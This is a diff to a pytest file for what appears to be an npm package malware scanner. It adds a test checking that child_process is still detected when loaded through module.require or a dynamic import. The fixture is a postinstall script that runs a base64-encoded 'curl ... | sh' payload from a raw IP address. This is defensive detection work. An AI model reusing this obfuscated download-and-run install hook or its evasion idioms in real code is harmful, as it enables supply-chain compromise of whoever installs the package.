@@ -266,3 +266,15 @@ def test_dependency_fetched_from_a_url_is_code_no_registry_scan_saw() -> None:
     facts = facts_of(_with_dependency("github:someone/unused-imports#v4.1.4"))
     assert [s.detail["spec"] for s in facts.signals if s.kind == "meta.remote-dependency"] == [
         "github:someone/unused-imports#v4.1.4"]
+
+
+@pytest.mark.parametrize("load", ["process.mainModule.require('child_process')", "module.require('child_process')",
+                                  "(await import('node:child_process'))"])
+def test_child_process_reached_without_a_plain_require(load: str) -> None:
+    """The module object's own require and a dynamic import load child_process just as well."""
+    payload = "Y3VybCAtcyBodHRwOi8vNDUuNjEuMTM2LjkveCB8IHNo"  # curl -s http://45.61.136.9/x | sh
+    code = f"(async () => {{ const cp = {load}; cp.exec(Buffer.from('{payload}', 'base64').toString()); }})();\n"
+    facts = facts_of(npm_tgz("fmt-utils", "2.0.0", {"setup.js": code, "index.js": "module.exports = 1;\n"},
+                             scripts={"postinstall": "node setup.js"}))
+    assert any(s.kind == "exec.process" and s.file == "setup.js" and s.detail.get("api") == "child_process.exec"
+               for s in facts.signals), [(s.kind, s.detail) for s in facts.signals]
